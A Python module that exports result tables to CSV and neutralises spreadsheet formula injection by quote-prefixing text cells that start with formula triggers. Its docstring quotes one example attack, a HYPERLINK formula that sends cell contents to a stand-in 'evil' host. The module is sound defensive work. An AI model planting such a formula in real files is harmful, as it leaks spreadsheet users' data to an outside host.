"""CSV export of result tables, with spreadsheet formula injection neutralised.

A cell such as `=HYPERLINK("http://evil/?"&A1,"click")` in a user's CSV comes back in results;
if the product exports it and a spreadsheet opens the file, the formula runs. Following the
OWASP "CSV injection" advice, every text cell that starts with a formula trigger (= + - @, tab,
carriage return) gets a leading single quote, which spreadsheets show as text. Numbers are
written as numbers, so negative numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: object) -> str:
    """Return the CSV text of one cell, with a quote prefix when a text cell could be a formula.

    Args:
        cell: A result value: None, bool, int, float or text.
    """
    if cell is None:
        return ""
    if isinstance(cell, bool):
        return "true" if cell else "false"
    if isinstance(cell, (int, float)):
        return repr(cell) if isinstance(cell, float) else str(cell)
    text = str(cell)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def to_csv(columns: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """Render a result table as RFC 4180 CSV text, header first, formulas neutralised.

    Args:
        columns: Column names (also neutralised: a header cell can hold a formula too).
        rows: Rows of cells, each as long as `columns`.

    Returns:
        The CSV text with CRLF line endings.

    Raises:
        ValueError: When a row's length differs from the number of columns.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow([neutralise(c) for c in columns])
    for index, row in enumerate(rows):
        if len(row) != len(columns):
            raise ValueError(f"row {index} has {len(row)} cells but there are {len(columns)} columns")
        writer.writerow([neutralise(cell) for cell in row])
    return buffer.getvalue()
